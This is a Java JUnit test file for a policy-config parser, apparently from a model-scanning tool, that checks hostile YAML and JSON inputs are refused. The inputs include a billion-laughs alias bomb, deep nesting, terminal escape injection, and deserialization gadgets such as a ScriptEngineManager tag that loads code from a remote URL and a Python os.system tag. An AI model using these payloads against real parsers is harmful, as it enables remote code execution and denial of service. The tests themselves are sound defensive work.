package org.modelscan.policy;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.Arrays;
import java.util.Random;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Policy files that want to harm the program: each ends as an error, and soon. */
@Timeout(20)
class HostileConfigTest {
  private static final int ROOM = Config.LARGEST - 100;

  /** Shown by its problem: the content is too long to be shown. */
  record Hostile(String name, String problem, byte[] content) {
    @Override
    public String toString() {
      return name + ": " + problem;
    }
  }

  @ParameterizedTest
  @MethodSource("hostile")
  void endsAsAnError(Hostile hostile) {
    assertThatThrownBy(() -> Config.parse(hostile.name(), hostile.content()))
        .isInstanceOf(PolicyError.class)
        .hasMessageContaining(hostile.problem())
        .message()
        .hasSizeLessThan(400);
  }

  static Stream<Hostile> hostile() {
    String laughs =
        """
        a: &a [x,x,x,x,x,x,x,x,x]
        b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
        c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
        """;
    return Stream.of(
        yaml(laughs, "1:4: anchors and aliases"),
        yaml("exclude: &e\n  - *e\n", "anchors and aliases"),
        yaml("!!javax.script.ScriptEngineManager [!!java.net.URL ['http://203.0.113.7']]", "tags"),
        yaml("fail-on: !!python/object/apply:os.system ['echo']", "tags"),
        yaml("%TAG ! tag:yaml.org,2002:\n---\nfail-on: !str never", "tags"),
        yaml("[".repeat(ROOM), "nested more than 16 levels"),
        yaml("{a: ".repeat(ROOM / 4), "nested more than 16 levels"),
        yaml("- ".repeat(ROOM / 2), "nested more than 16 levels"),
        yaml("? ".repeat(ROOM / 2), "must be text"),
        yaml("exclude: [" + "a,".repeat(ROOM / 2 - 10) + "\"", "is no YAML"),
        yaml("fail-on: \"" + "x".repeat(ROOM), "is no YAML"),
        yaml("k".repeat(ROOM) + ": x", "is no YAML"),
        yaml("? " + "k".repeat(ROOM) + "\n: x", "unknown key 'kkk"),
        yaml("fail-on: " + "9".repeat(ROOM), "must be text"),
        yaml("fail-on: " + "1.".repeat(ROOM / 2), "is none of"),
        yaml("rules: {" + "x".repeat(900) + ": off}", "there is no rule"),
        yaml("fail-on: high\u0000", "is no YAML"),
        yaml("fail-on: \u001b[2Jhigh", "is no YAML"),
        yaml("\"\\e[2J\\n::error::\": 1", "unknown key"),
        yaml("exclude: ['" + "*a".repeat(40) + "b']", "has more than 8 times"),
        yaml("<<: {fail-on: never}", "unknown key '<<'"),
        json("[".repeat(ROOM), "nested more than 16 levels"),
        json("{\"a\":".repeat(ROOM / 5), "nested more than 16 levels"),
        json(
            "{\"fail-on\": \"high\", \"fail-on\": \"never\"}",
            "1:21: the key 'fail-on' stands twice"),
        json("{\"fail-on\": \"high\"} {}", "goes on behind the end"),
        json("{\"fail-on\": \"high\"", "is no JSON"),
        json("{\"fail-on\": " + "9".repeat(ROOM) + "}", "no"),
        json("// a\n{}", "is no JSON"),
        new Hostile("a.yml", "a.yml: is larger than 1 MB", new byte[100 << 20]),
        new Hostile("a.yml", "is no YAML", new byte[ROOM]),
        new Hostile("a.yml", "is not text in UTF-8", "fail-on: h\u00f6ch".getBytes(ISO_8859_1)),
        new Hostile("a.yml", "is not text in UTF-8", "fail-on: high".getBytes(UTF_16)));
  }

  @Test
  void aByteOrderMarkIsNoKey() throws Exception {
    assertThat(Config.parse("a.yml", "\ufefffail-on: never".getBytes(UTF_8)).policy().failOn())
        .isEmpty();
  }

  @ParameterizedTest
  @ValueSource(strings = {"a.yml", "a.json"})
  void damagedFilesAreReadOrRefused(String name) {
    byte[] whole =
        """
        {"fail-on": "medium", "exclude": ["tests/**"], "rules": {"keras-lambda": "off"},
         "allow": [{"rule": "keras-lambda", "path": "a", "symbol": "b", "reason": "c",
                    "expires": "2027-03-31"}]}
        """
            .getBytes(UTF_8);
    Random random = new Random(6);
    int refused = 0;
    for (int i = 0; i < 3_000; i++) {
      byte[] damaged = Arrays.copyOf(whole, whole.length - random.nextInt(3));
      for (int j = random.nextInt(3); j >= 0; j--) {
        damaged[random.nextInt(damaged.length)] = (byte) random.nextInt(256);
      }
      try {
        Config.parse(name, damaged);
      } catch (PolicyError expected) {
        refused++;
      }
    }
    assertThat(refused).isGreaterThan(1_000);
  }

  private static Hostile yaml(String text, String problem) {
    return new Hostile("a.yml", problem, text.getBytes(UTF_8));
  }

  private static Hostile json(String text, String problem) {
    return new Hostile("a.json", problem, text.getBytes(UTF_8));
  }
}
